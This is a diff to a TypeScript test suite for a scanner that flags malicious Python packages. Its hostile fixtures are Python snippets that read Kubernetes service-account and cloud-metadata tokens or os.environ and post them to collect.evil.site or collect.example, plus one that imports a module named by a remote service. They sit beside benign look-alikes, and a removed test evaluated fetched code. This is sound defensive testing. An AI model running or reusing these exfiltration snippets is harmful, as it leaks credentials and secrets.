@@ -3,7 +3,7 @@
  *
  * @module
  */
-import { assert, assertEquals } from "@std/assert";
+import { assertEquals } from "@std/assert";
 import { gzipSync } from "node:zlib";
 import { readPackage } from "../../workers/analysis/packages/reading.ts";
 import { packWheel } from "../../workers/analysis/packages/pack.ts";
@@ -53,6 +53,35 @@ const SENT_BY_SECOND = "py/key-sent kit/second.py:11";
 
 /** Each package, and a rule that it breaks with the place. */
 const HOSTILE: Record<string, [files: Files, found: string]> = {
+  "a cluster's token goes to another host": [{
+    "kit/__init__.py": "import requests\n\ndef pods():\n" +
+      "    token = open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()\n" +
+      "    requests.post('https://collect.evil.site/x', data=token)\n",
+  }, "py/key-sent kit/__init__.py:5"],
+  "a token of a cloud's machine goes to another host": [{
+    "kit/__init__.py": "from urllib.request import Request, urlopen\nimport requests\n\n" +
+      "def token():\n    request = Request('http://169.254.169.254/metadata/token')\n" +
+      "    said = urlopen(request, timeout=5).read()\n" +
+      "    requests.post('https://collect.evil.site/x', data=said)\n",
+  }, "py/credentials-sent kit/__init__.py:7"],
+  "the environment is among the words of a program's options": [{
+    "kit/__init__.py": "import os, subprocess\n\ndef start(**options):\n" +
+      "    options['env'] = dict(os.environ)\n" +
+      "    options['args'] = ['curl', '-d', str(dict(os.environ)), 'https://collect.evil.site']\n" +
+      "    return subprocess.Popen(**options)\n",
+  }, "py/environment-sent kit/__init__.py:6"],
+  "the environment goes to a parameter that is called like it": [{
+    "kit/__init__.py": "import os, requests\n\ndef send(environ):\n" +
+      "    requests.post('https://collect.example/x', json=dict(environ))\n\nsend(os.environ)\n",
+  }, "py/environment-sent kit/__init__.py:4"],
+  "a parameter is the environment by default": [{
+    "kit/__init__.py": "import os, requests\n\ndef send(environ=os.environ):\n" +
+      "    requests.post('https://collect.example/x', json=dict(environ))\n",
+  }, "py/environment-sent kit/__init__.py:4"],
+  "the module that is imported is what a service says": [{
+    "kit/__init__.py": "import importlib, requests\n\ndef load(url):\n" +
+      "    name = requests.get(url).text\n    return importlib.import_module(f'{name}.start')\n",
+  }, "py/remote-code kit/__init__.py:5"],
   "the environment is sent at import": [{
     "kit/__init__.py": "import os, json, urllib.request\n" +
       "data = json.dumps(dict(os.environ)).encode()\n" +
@@ -246,6 +275,42 @@ for (const [what, [files, found]] of Object.entries(HOSTILE)) {
 
 /** What libraries do for good reasons. */
 const HONEST: Record<string, Files> = {
+  "a table of its own that is called like the environment": {
+    "kit/__init__.py": "import sentry_sdk\n\ndef said(request):\n" +
+      "    environ = {'METHOD': request.method}\n    environ['PATH'] = request.path\n" +
+      "    sentry_sdk.set_context('request', environ)\n",
+  },
+  "the variables of a program, among options that callers give": {
+    "kit/__init__.py": "import os, subprocess\n\ndef start(args, **options):\n" +
+      "    options.setdefault('env', dict(os.environ))\n" +
+      "    return subprocess.Popen([*args], **options)\n",
+  },
+  "a token that it asks a cloud's machine for": {
+    "kit/__init__.py": "import json\nfrom urllib.request import Request, urlopen\n\n" +
+      "def token():\n    request = Request('http://169.254.169.254/metadata/token')\n" +
+      "    with urlopen(request, timeout=5) as answer:\n" +
+      "        return json.loads(answer.read())['token']\n",
+  },
+  "a cluster's token for its own cluster": {
+    "kit/__init__.py": "import os, requests\n\ndef pods():\n" +
+      "    token = open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()\n" +
+      "    return requests.get('https://' + os.environ['KUBERNETES_SERVICE_HOST'] + '/api',\n" +
+      "        headers={'Authorization': f'Bearer {token}'}, timeout=5).json()\n",
+  },
+  "what an SDK reports by itself": {
+    "sentry_sdk/wsgi.py": "import os\nimport sentry_sdk\n\ndef report(error):\n" +
+      "    sentry_sdk.set_context('environment', dict(os.environ))\n",
+  },
+  "what a web server gives an application": {
+    "kit/__init__.py":
+      "import sentry_sdk\n\nclass App:\n    def __call__(self, environ, start):\n" +
+      "        sentry_sdk.set_context('wsgi', environ)\n        return self.app(environ, start)\n",
+  },
+  "one of its own modules, as a service says": {
+    "kit/__init__.py": "import importlib, requests\n\ndef load(url):\n" +
+      "    base = 'kit.protocols.v'\n    version = requests.get(url).json()['version']\n" +
+      "    return importlib.import_module(f'{base}{version}')\n",
+  },
   "a client that sends its own key to its own service": {
     "kit/__init__.py": "import os, httpx\n\nclass Client:\n    def __init__(self, key=None):\n" +
       "        self.key = key or os.environ.get('KIT_API_KEY')\n\n    def get(self, path):\n" +
@@ -306,81 +371,6 @@ for (const [what, files] of Object.entries(HONEST)) {
     assertEquals(await read(files), []);
   });
 }
-
-Deno.test("data that is cut out of an answer and evaluated is malice where the package runs it itself", async () => {
-  const get =
-    "import requests\n\ndef get(code):\n    text = requests.get(f'https://a.example/{code}').text\n";
-  const part = "    return eval(text[text.find('=') + 1 : text.find(';')])\n";
-  const cases: [what: string, files: Files, severity: string][] = [
-    ["only a user calls it", { "kit/a.py": get + part }, "medium"],
-    ["its callers are called by users", {
-      "kit/a.py": get + part,
-      "kit/__init__.py": "from .a import get\n\ndef table(code):\n    return get(code)\n",
-    }, "medium"],
-    ["all of the answer", { "kit/a.py": get + "    return eval(text)\n" }, "critical"],
-    ["from a mark on, by a name", {
-      "kit/a.py": get + "    part = text[text.find('['):]\n    return eval(part)[0]\n",
-    }, "medium"],
-    ["a piece", { "kit/a.py": get + "    return eval(text.split('=')[1])\n" }, "medium"],
-    ["where it is run as a script", {
-      "kit/a.py": get + part + "\nif __name__ == '__main__':\n    print(get(1))\n",
-    }, "medium"],
-    ["an open end", { "kit/a.py": get + "    return eval(text[1:])\n" }, "critical"],
-    ["by another name", {
-      "kit/a.py": get +
-        "    part = text[text.find('['):]\n    part = text\n    return eval(part)\n",
-    }, "critical"],
-    ["for what it does", {
-      "kit/a.py": get + "    eval(text[text.find('=') + 1:])\n    return text\n",
-    }, "critical"],
-    ["where it is run as no script", {
-      "kit/a.py": get + part + "\nif __name__ == '__main__':\n    pass\nelse:\n    get(1)\n",
-    }, "critical"],
-    ["by its name as a text", {
-      "kit/a.py": get + part + "\nglobals()['g' + 'et'](1)\n",
-    }, "critical"],
-    ["by its name in another module", {
-      "kit/a.py": get + part,
-      "kit/b.py": "from . import a\n\ngetattr(a, 'teg'[::-1])(1)\n",
-    }, "critical"],
-    ["where the name is not that of a script", {
-      "kit/a.py": get + part + "\nif __name__ == 'kit.a':\n    print(get(1))\n",
-    }, "critical"],
-    ["with names", {
-      "kit/a.py": get + part.replace(")])", ")], globals())"),
-    }, "critical"],
-    [
-      "at import",
-      { "kit/a.py": get + part, "kit/b.py": "from .a import get\nget(1)\n" },
-      "critical",
-    ],
-    ["by a caller at import", {
-      "kit/a.py": get + part,
-      "kit/b.py": "from . import a\n\ndef go():\n    a.get(1)\n\ngo()\n",
-    }, "critical"],
-    ["in a class", {
-      "kit/a.py": get + part,
-      "kit/b.py": "from .a import get\n\nclass K:\n    x = get(1)\n",
-    }, "critical"],
-    ["in a thread", {
-      "kit/a.py": get + part,
-      "kit/b.py": "import threading\nfrom .a import get\n\ndef go():\n" +
-        "    threading.Thread(target=get).start()\n",
-    }, "critical"],
-    ["by a decorator", { "kit/a.py": get.replace("def", "@run\ndef") + part }, "critical"],
-    ["by Python", {
-      "kit/a.py": get + part,
-      "kit/b.py": "from .a import get\n\ndef __getattr__(name):\n    return get(name)\n",
-    }, "critical"],
-  ];
-  for (const [what, files, severity] of cases) {
-    const wheel = wheelOf({ name: "helper-kit", version: "1.0", files });
-    const packed = packWheel(wheel, { name: "helper-kit", version: "1.0", symbols: "" });
-    assert(packed.kind !== "refused");
-    const { findings } = await readPackage(Uint8Array.fromBase64(packed.content), "helper-kit");
-    assertEquals([what, ...findings.map((each) => each.severity)], [what, severity]);
-  }
-});
 
 Deno.test("a package that is made large is read where it acts, and says what was left", async () => {
   const idle = "class Model:\n    name = 1\n\n".repeat(20_000);
